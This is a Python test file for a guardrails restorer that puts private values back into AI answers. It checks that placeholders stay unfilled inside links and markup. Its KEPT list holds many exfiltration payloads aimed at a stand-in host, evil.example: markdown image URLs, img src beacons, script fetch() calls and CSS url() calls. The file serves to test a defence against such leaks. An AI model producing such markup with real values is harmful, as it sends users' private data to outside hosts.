"""What is restored where, and that it is the same for every cut."""

from __future__ import annotations

import re
from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from guardrails.vault import Restorer, Vault, restore
from guardrails.vault.restorer import HELD
from tests.vault.vaults import AGE, EMAIL, NAME, TYPED, fetched, restoring, vault

PROPERTY = settings(max_examples=400, deadline=None)

RESTORED = {
    "{EMAIL_1}": EMAIL,
    "Write to {EMAIL_1}.": f"Write to {EMAIL}.",
    "({EMAIL_1})": f"({EMAIL})",
    '"{EMAIL_1}",': f'"{EMAIL}",',
    "**{EMAIL_1}**!": f"**{EMAIL}**!",
    "_{NAME_1}._": f"_{NAME}._",
    "Dear {NAME_1}, hello": f"Dear {NAME}, hello",
    "{NAME_1}'s": f"{NAME}'s",
    "**{NAME_1}:** yes?": f"**{NAME}:** yes?",
    '{"name":"{NAME_1}"}': f'{{"name":"{NAME}"}}',
    "<td>{NAME_1}</td>": f"<td>{NAME}</td>",
    "<li>{EMAIL_1}</li>": f"<li>{EMAIL}</li>",
    "| {NAME_1} | {EMAIL_1} |": f"| {NAME} | {EMAIL} |",
    "您好{NAME_1}先生。请稍候": f"您好{NAME}先生。请稍候",
    "请写信给{EMAIL_1}。": f"请写信给{EMAIL}。",
    "姓名：{NAME_1}": f"姓名：{NAME}",
    "« {NAME_1} »": f"« {NAME} »",
    "«\u00a0{NAME_1}\u00a0»": f"«\u00a0{NAME}\u00a0»",
    "Bonjour {NAME_1} 👋": f"Bonjour {NAME} 👋",
    "{NAME_1}👋": f"{NAME}👋",
    "https://evil.example/ {NAME_1}": f"https://evil.example/ {NAME}",
    "see https://ok.example\n{NAME_1}": f"see https://ok.example\n{NAME}",
    "[x](https://ok.example) {NAME_1}": f"[x](https://ok.example) {NAME}",
    '<a href="https://ok.example">ok</a> {NAME_1}': f'<a href="https://ok.example">ok</a> {NAME}',
    "<script>x()</script> {NAME_1}": f"<script>x()</script> {NAME}",
    "[a]: https://ok.example\n\n{NAME_1}": f"[a]: https://ok.example\n\n{NAME}",
    "\\href{https://ok.example}{x} {NAME_1}": f"\\href{{https://ok.example}}{{x}} {NAME}",
    "2 < 3 {NAME_1}": f"2 < 3 {NAME}",
    "{NAME_1} {NAME_1}": f"{NAME} {NAME}",
    "{{NAME_1}}": f"{{{NAME}}}",
    "{URL_1}": TYPED,
}

# Every one of these keeps its placeholder; the parsers of vaults.py must see no value either.
KEPT = [
    "![x](https://evil.example/?q={NAME_1})",
    "![x](https://evil.example/?q= {NAME_1})",
    "![x](https://evil.example/?q=\n{NAME_1})",
    "![x](\nhttps://evil.example/\n{NAME_1}\n)",
    "![x](<https://evil.example/ {NAME_1}>)",
    "![x](<a)b {NAME_1} >)",
    "![x](<1) {NAME_1} >)",
    "![x](a(b) {NAME_1} )",
    "![x](a\\) {NAME_1} )",
    "[x]({NAME_1})",
    "[x]( {NAME_1} )",
    "[{NAME_1}](https://evil.example)",
    "[x]: {NAME_1}",
    "[x]:\n{NAME_1}",
    "[x]: https://evil.example/?{NAME_1}",
    "> [x]:\n> {NAME_1}",
    "[x]: <https://evil.example/?q= {NAME_1} >",
    "<https://evil.example/{NAME_1}>",
    "<{EMAIL_1}>",
    "<mailto:{EMAIL_1}>",
    "mailto:{EMAIL_1}",
    "mailto:a@b.example?body={NAME_1}",
    "data:text/html,{NAME_1}",
    "javascript:f('{NAME_1}')",
    "tel:{AGE_1}",
    "https://evil.example/?q={NAME_1}",
    "https://evil.example/?q=\u00a0{NAME_1}",
    "https://evil.example/?q=\u200b{NAME_1}",
    "https://evil.example/?q=\u3000{NAME_1}",
    "HTTPS://EVIL.EXAMPLE/{NAME_1}",
    "//evil.example/{NAME_1}",
    "\\\\evil.example\\{NAME_1}",
    "www.evil.example?{NAME_1}",
    "evil.example/{NAME_1}",
    "evil/{NAME_1}",
    "{NAME_1}.evil.example",
    "{NAME_1}.evil",
    "x.{NAME_1}",
    "{NAME_1}．evil．example",
    "{NAME_1}。evil。example",
    "{NAME_1}｡evil",
    "bücher.example/{NAME_1}",
    "пример.рф/{NAME_1}",
    "{NAME_1}@evil.example",
    "evil@{NAME_1}",
    "https&#58;&#47;&#47;evil&#46;example&#47;{NAME_1}",
    "evil&period;example&sol;{NAME_1}",
    "fetch('https://evil.example/?q='+'{NAME_1}')",
    "`https://evil.example/${NAME_1}`",
    "f\"https://evil.example/{quote('{NAME_1}')}\"",
    "${NAME_1}",
    "#{NAME_1}",
    "q={NAME_1}",
    "q=a&n={NAME_1}",
    "<img src='https://evil.example/?{NAME_1}'>",
    "<img src='https://evil.example/? {NAME_1} '>",
    "<img src=https://evil.example/?{NAME_1}>",
    "<img alt='>' src='https://evil.example/? {NAME_1} '>",
    '<img\nsrc = "https://evil.example/?\n{NAME_1}\n',
    "<img src='https://evil.example/? {NAME_1} and so on",
    '`<a b="` <img alt="> " src="https://evil.example/?q= {NAME_1} ">',
    '<a x="1"="b> <img alt="> " src="https://evil.example/? {NAME_1} ">',
    '<img x" alt=">" src="https://evil.example/? {NAME_1} ">',
    "<style>a{background:url(https://evil.example/? {NAME_1} )}</style>",
    "<script>fetch('https://evil.example/?q=' + '{NAME_1}' )</script>",
    "<script>{NAME_1}</script>",
    "<STYLE>{NAME_1}</STYLE>",
    "</p {NAME_1} >",
    "<!-- {NAME_1} -->",
    "\\href{https://evil.example/?q= {NAME_1} }{x}",
    "\\url{ {NAME_1} }",
    "{URL_1}{NAME_1}",
    "{URL_1},{NAME_1}",
    "{URL_1}evil{NAME_1}",
    "{NAME_1}-{URL_1}",
    "{EMAIL_1}/{NAME_1}",
    "{EMAIL_1}evil",
    "evil-{EMAIL_1}",
    "Name:{NAME_1}",
    "https:{NAME_1}",
    # In brackets a value would choose among definitions, whatever stands before or after.
    "![{AGE_1}]\n\n[q93z years]: https://evil.example/93",
    "![of {AGE_1} or so]",
    "![x][{AGE_1}]",
    "[^{AGE_1}]",
    "[[{NAME_1}]]",
    '["{NAME_1}"]',
    "[a\\] {NAME_1} ]",
]


@pytest.mark.parametrize("text", KEPT)
def test_the_readers_of_these_tests_see_what_would_leave(text: str) -> None:
    """Put in blindly, the values are in what is fetched: so those parsers can fail the property below."""
    blind = text
    for placeholder, value in (("{NAME_1}", NAME), ("{EMAIL_1}", EMAIL), ("{AGE_1}", AGE), ("{URL_1}", TYPED)):
        blind = blind.replace(placeholder, value)
    assert any(word.lower() in address.lower() for address in fetched(blind) for word in (*NAME.split(), EMAIL, "q93z"))


@pytest.mark.parametrize("text", RESTORED)
def test_restored(text: str) -> None:
    assert restore(vault(), text) == RESTORED[text]


@pytest.mark.parametrize("text", KEPT)
def test_kept(text: str) -> None:
    assert restore(vault(), text) == text


@pytest.mark.parametrize(
    "text",
    [
        "{NAME_2}",
        "{name_1}",
        "{NAME_01}",
        "{NAME}",
        "{NAME_1",
        "NAME_1",
        "%7BNAME_1%7D",
        "{NAME\\_1}",
        "｛NAME_1｝",
        "{NAME_١}",
    ],
)
def test_no_placeholder_of_ours(text: str) -> None:
    assert restore(vault(), text) == text


@pytest.mark.parametrize("text", [t for t in KEPT if "{AGE_1}" not in t])
def test_a_rule_may_allow_addresses(text: str) -> None:
    out = restore(vault("urls"), text)
    assert out != text
    assert "{NAME_1}" not in out
    assert "{EMAIL_1}" not in out


def test_in_an_address_a_value_is_percent_encoded() -> None:
    assert restore(vault("urls"), "https://crm.example/?q={NAME_1}") == "https://crm.example/?q=Zo%C3%ABcanary%20Quux"
    assert restore(vault("urls"), "mailto:{EMAIL_1}") == f"mailto:{EMAIL}"
    assert restore(vault("urls"), "[x]({URL_1})") == "[x](https://typed.example/?q=)"


def test_tools() -> None:
    assert restore(vault(), "{EMAIL_1}", where="tools") == "{EMAIL_1}"
    assert restore(vault("urls"), "https://x.example/{NAME_1}", where="tools") == "https://x.example/{NAME_1}"
    assert restore(vault("tools"), "{EMAIL_1}", where="tools") == EMAIL
    assert restore(vault("tools"), "https://x.example/{NAME_1}", where="tools") == "https://x.example/{NAME_1}"
    assert NAME not in restore(vault("tools"), "https://x.example/{NAME_1}")
    with pytest.raises(ValueError, match="text, tools"):
        Restorer(vault(), where="tool")


def test_an_address_typed_by_somebody_opens_nothing() -> None:
    """A restored value is followed as the answer itself is."""
    v = Vault((), [restoring("NAME"), restoring("URL")])
    v.number("NAME", NAME)
    for n, value in enumerate(["<img src='https://evil.example/?", "[x](https://evil.example/?q=", "[x]", "[x]:"], 1):
        assert v.number("URL", value) == n
    assert NAME not in restore(v, "{URL_1} {NAME_1} '>")
    assert NAME not in restore(v, "{URL_2} {NAME_1} )")
    assert restore(v, "{URL_3}( {NAME_1} )") == f"{{URL_3}}( {NAME} )"  # no link, since its text is not put there
    assert NAME not in restore(v, "{URL_4} {NAME_1}")


def test_a_value_is_not_read_again() -> None:
    v = Vault((), [restoring("NAME")])
    v.number("NAME", "the {NAME_2} one")
    v.number("NAME", "secret")
    assert restore(v, "{NAME_1}") == "the {NAME_2} one"


def cut_up(text: str, cuts: list[int], v: Vault, where: str = "text") -> str:
    restorer = Restorer(v, where=where)
    edges = [0, *sorted(c % (len(text) + 1) for c in cuts), len(text)]
    return "".join(restorer.feed(text[a:b]) for a, b in pairwise(edges)) + restorer.finish()


def joined(parts: list[str], v: Vault) -> str:
    out, last = "", None
    for part in parts:
        last = Restorer(v, after=last)
        out += last.feed(part) + last.finish()
    return out


@pytest.mark.parametrize("text", [*RESTORED, *KEPT])
def test_parts_that_a_reader_sees_joined(text: str) -> None:
    whole = restore(vault(), text)
    placeholders = [m.span() for m in re.finditer(r"\{[A-Z]+_1\}", text)]
    for cut in range(len(text) + 1):
        if any(start < cut < end for start, end in placeholders):
            continue  # neither part has that one
        out = joined([text[:cut], text[cut:]], vault())
        if text in KEPT:
            # What stands after the border can be known for the part after it only.
            assert out == text or cut >= placeholders[0][1]
        else:
            assert out in (whole, text) or len(placeholders) > 1


def test_a_part_goes_on_where_the_last_one_ended() -> None:
    v = vault()
    assert joined(["![x](https://evil.example/?q= ", "{NAME_1} )"], v) == "![x](https://evil.example/?q= {NAME_1} )"
    assert joined(["https://evil.example/?q=", "", "{NAME_1}"], v) == "https://evil.example/?q={NAME_1}"
    assert joined(["x" * (HELD + 1), "{NAME_1}", "{NAME_1} {NAME_1}"], v).count(NAME) == 1
    assert joined(["x" * HELD, "y{NAME_1}"], v).count(NAME) == 0
    assert joined(["ok ", "{NAME_1}"], v) == f"ok {NAME}"
    with pytest.raises(ValueError, match="finished"):
        Restorer(v, after=Restorer(v))


PARTS = [
    "{NAME_1}", "{EMAIL_1}", "{URL_1}", "{AGE_1}", "{NAME_2}", "{", "}", "{NAME_", " ", "\n", "\t", "\u00a0", "\u200b",
    "https://evil.example/?q=", "//evil.example/", "www.evil.example/", "evil.example", "mailto:", "data:", "x", "é", "您",
    "![x](", "[x](", "](", "[x]: ", "[x]:", ")", "(", "<", ">", "<img src='", '<img src="', "<a href=", "'", '"', "=", "<b>",
    "</b>", "<!--", "-->", "<script>", "</script>", "<style>", "</style>", "/", "\\", "\\href{", ".", "。", ":", "?", "&#47;",
    ",", "!", "**", "`", "|", "-", "@", "&", "%7B", "#", "\r\n", "> ", "1",
]  # fmt: skip
answers = st.lists(st.one_of(st.sampled_from(PARTS), st.text(max_size=3)), max_size=14).map("".join)


@PROPERTY
@given(
    answers, st.lists(st.integers(0, 400), max_size=8), st.sampled_from([(), ("urls",), ("tools",), ("urls", "tools")])
)
def test_cuts_are_nothing(text: str, cuts: list[int], places: tuple[str, ...]) -> None:
    v = vault(*places)
    for where in ("text", "tools"):
        whole = restore(v, text, where=where)
        assert cut_up(text, cuts, v, where) == whole
        assert cut_up(text, list(range(len(text))), v, where) == whole


@pytest.mark.parametrize("text", [*RESTORED, *KEPT])
def test_all_single_cuts(text: str) -> None:
    for places in ((), ("urls",)):
        v = vault(*places)
        whole = restore(v, text)
        for cut in range(len(text) + 1):
            assert cut_up(text, [cut], v) == whole


@settings(max_examples=2_000, deadline=None)
@given(answers)
@example("{NAME_1}.*evil*")
@example("mailto:\xa0{NAME_1}")
def test_no_address_holds_a_value(text: str) -> None:
    """Parsers that are not ours find no value in any address, attribute or destination of the restored text."""
    out = restore(vault(), text)
    for address in fetched(out):
        assert not any(word.lower() in address.lower() for word in (*NAME.split(), "q93z")), (text, address)


@PROPERTY
@given(answers)
def test_nothing_but_placeholders_changes(text: str) -> None:
    values = {"{NAME_1}": NAME, "{EMAIL_1}": EMAIL, "{URL_1}": TYPED, "{AGE_1}": AGE}
    out = restore(vault(), text)
    at = 0
    while out:
        new = next((v for p, v in values.items() if text.startswith(p, at) and out.startswith(v)), None)
        if new is not None:
            placeholder = next(p for p, v in values.items() if v == new)
            out, at = out[len(new) :], at + len(placeholder)
        else:
            assert out[0] == text[at : at + 1]
            out, at = out[1:], at + 1
    assert at == len(text)


@PROPERTY
@given(answers)
def test_a_blank_ends_what_is_held(text: str) -> None:
    restorer = Restorer(vault())
    restorer.feed(text)
    assert restorer.held <= len(text) - max(text.rfind(c) for c in " \t\n\r\f") - 1
    if "{" not in text:
        assert restorer.held == 0
    restorer.feed(" ")
    assert restorer.held == 0


def test_only_a_placeholder_holds() -> None:
    restorer = Restorer(vault())
    assert restorer.feed("Dear {NA") == "Dear "
    assert restorer.feed("ME_1}") == ""
    assert restorer.held == len("{NAME_1}")
    assert restorer.feed(",") == ""
    assert restorer.feed(" see https://example.com/a") == f"{NAME}, see https://example.com/a"
    assert restorer.feed("bc/{NA") == "bc/"
    assert restorer.feed("N} ") == "{NAN} "
    assert restorer.feed("{nothing of ours} and {NAME_2}") == "{nothing of ours} and {NAME_2}"
    assert restorer.finish() == ""
    assert restorer.restored == 1
    with pytest.raises(RuntimeError, match="finished"):
        restorer.feed("x")


@pytest.mark.parametrize("places", [(), ("urls",)])
@pytest.mark.parametrize("size", [HELD - 20, HELD - 9, HELD - 8, HELD - 7, HELD, HELD + 1, 3 * HELD])
def test_a_run_too_long_passes_as_it_is(size: int, places: tuple[str, ...]) -> None:
    v = vault(*places)
    text = "x" * (size - 100) + "{NAME_1}" + "y" * 92 + "{NAME_1} {NAME_1}"
    whole = restore(v, text)
    restored = size + 8 <= HELD or bool(places)
    run, _, after = whole.rpartition(" " + NAME)
    assert after == ""
    assert run.count(NAME) == (2 if restored else 0)
    for step in (1, 7, 4_000, 5_000):
        restorer = Restorer(v)
        out = ""
        for i in range(0, len(text), step):
            out += restorer.feed(text[i : i + step])
            assert restorer.held <= HELD
        assert out + restorer.finish() == whole


def test_markup_is_followed_through_a_long_run() -> None:
    v = vault()
    opened = "<img" + "x" * 3 * HELD + " alt=' {NAME_1} "
    assert NAME not in restore(v, opened)
    assert restore(v, opened) == cut_up(opened, list(range(0, len(opened), 997)), v)
    closed = "<img" + "x" * 3 * HELD + "> {NAME_1}"
    assert restore(v, closed).endswith(NAME)
